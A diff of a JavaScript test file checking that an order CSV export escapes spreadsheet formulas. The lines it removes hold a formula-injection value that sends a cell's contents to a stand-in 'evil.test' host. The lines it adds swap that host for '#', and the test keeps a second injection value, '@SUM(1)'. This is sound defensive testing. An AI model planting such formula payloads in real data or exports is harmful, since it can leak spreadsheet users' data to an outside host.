@@ -167,7 +167,7 @@ describe("changing an order's status", () => {
 
 describe('the order export', () => {
   test('contains every field, and no cell that a spreadsheet runs as a formula', async () => {
-    const evil = `=HYPERLINK("http://evil.test?"&A1,"x")`;
+    const evil = `=HYPERLINK("#"&A1,"x")`;
     const number = await placed('05T08', {
       firstName: evil,
       lastName: '@SUM(1)',
@@ -183,7 +183,7 @@ describe('the order export', () => {
     expect(count).toBe(1);
     expect(next).toBeUndefined();
     expect(csv.startsWith('\uFEFF"number","createdAt","timeZone","status",')).toBe(true);
-    expect(csv).toContain(`"'=HYPERLINK(""http://evil.test?""&A1,""x"")"`);
+    expect(csv).toContain(`"'=HYPERLINK(""#""&A1,""x"")"`);
     // No cell begins with a formula sign.
     expect(csv.split(/\r\n/)[1]).not.toMatch(/(?:^|,)"?[=+\-@]/);
     const [head, row] = parseCsv(csv);
